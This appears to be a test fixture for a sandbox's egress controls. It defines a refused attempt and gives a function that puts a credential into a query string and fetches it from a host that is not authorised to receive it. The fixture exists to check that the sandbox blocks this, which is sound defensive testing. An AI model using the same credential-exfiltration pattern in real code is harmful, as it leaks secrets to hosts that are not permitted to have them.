export const attempt = {
  tries: "to send a credential to another host in an address",
  refusedBecause: "a placeholder in an address toward another host is refused",
  ends: { code: "egress_denied", message: "KEY is not allowed for this host" },
  allowedHosts: ["http://{witness}", "http://{other}"],
  keyHosts: ["http://{witness}"],
};

export default async ({ other }, { credentials }) => {
  await fetch(`http://${other}/reached?key=${credentials.KEY}`);
  return "got through";
};
